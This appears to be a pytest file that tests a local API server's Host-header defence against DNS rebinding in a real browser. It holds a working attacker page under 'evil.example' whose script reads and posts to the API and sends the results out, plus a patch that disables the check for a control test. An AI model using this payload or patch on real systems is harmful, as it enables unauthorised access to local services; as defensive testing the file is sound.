"""In a real browser: a page of another site, whose name is made to lead to the server, and the server's own page."""

import json
from contextlib import ExitStack
from pathlib import Path
from urllib.request import urlopen

import pytest
from sqlalchemy.engine import URL

from api.examples.commands import body_example
from tests.api.terminal.running import running
from tests.browser import chromium
from tests.browser.pages import site

pytestmark = pytest.mark.skipif(chromium.PROGRAM is None, reason="there is no Chromium on this machine")

EVIL = "evil.example"
OPENING = {name: value for name, value in body_example("open-engagement").items() if name != "engagement_id"}
WITHOUT_THE_DOOR = """from api.http.door.callers import Door
Door._refusal = lambda self, headers: None"""


def page(reports: int) -> str:
    """A page that waits until its own address leads to the server, and then reads and commands."""
    return f"""<!doctype html><title>evil</title><script>
const tell = (what, found) =>
  fetch("http://127.0.0.1:{reports}/told?" + new URLSearchParams({{[what]: found}}), {{mode: "no-cors"}});
const asked = options =>
  fetch("/v1/engagements", options).then(
    async answer => answer.status + " " + await answer.text(), failed => "" + failed);
const body = JSON.stringify({json.dumps(OPENING)});
(async () => {{
  await tell("shown", location.origin);
  let found = "";
  while ((found = await asked({{cache: "no-store"}})).match(/doctype|TypeError/))
    await new Promise(done => setTimeout(done, 100));
  await tell("read", found);
  await tell("commanded", await asked({{method: "POST", headers: {{"Content-Type": "application/json"}}, body}}));
}})();
</script>"""


def recorded(address: str) -> int:
    with urlopen(f"{address}/v1/events", timeout=10) as answer:
        return int(json.load(answer)["position"])


def rebound(url: URL, folder: Path, first: str = "pass") -> tuple[str, str, int]:
    """What a page is answered to a query and a command when its name leads to the server, and how much is recorded."""
    environment = {"STANDFAST_DATABASE_URL": str(url)}
    with site() as reports, ExitStack() as browser:
        with site(page(reports.port)) as evil:
            browser.enter_context(chromium.showing(f"http://{EVIL}:{evil.port}/", folder, EVIL))
            assert reports.hears("shown") == f"http://{EVIL}:{evil.port}"
        arguments = ("serve", "--port", str(evil.port))
        with running(*arguments, environment=environment, folder=folder, first=first) as (address, _):
            return reports.hears("read"), reports.hears("commanded"), recorded(address)


def test_a_page_whose_name_is_made_to_lead_here_is_refused(sqlite_url: URL, tmp_path: Path) -> None:
    read, commanded, events = rebound(sqlite_url, tmp_path)
    assert (read[:3], commanded[:3], events) == ("421", "421", 0)
    assert "/problems/unknown-host" in commanded


def test_control_without_the_door_it_commands(sqlite_url: URL, tmp_path: Path) -> None:
    read, commanded, events = rebound(sqlite_url, tmp_path, WITHOUT_THE_DOOR)
    assert (read[:3], commanded[:3], events) == ("200", "201", 1)


@pytest.mark.long
def test_the_pages_of_the_server_itself_are_shown(sqlite_url: URL, tmp_path: Path) -> None:
    environment = {"STANDFAST_DATABASE_URL": str(sqlite_url)}
    with running("serve", "--port", "0", environment=environment, folder=tmp_path) as (address, _):
        shown = chromium.document(f"{address.replace('127.0.0.1', 'localhost')}/docs", tmp_path)
    assert "operations-tag-commands" in shown  # what the page's scripts make of the document
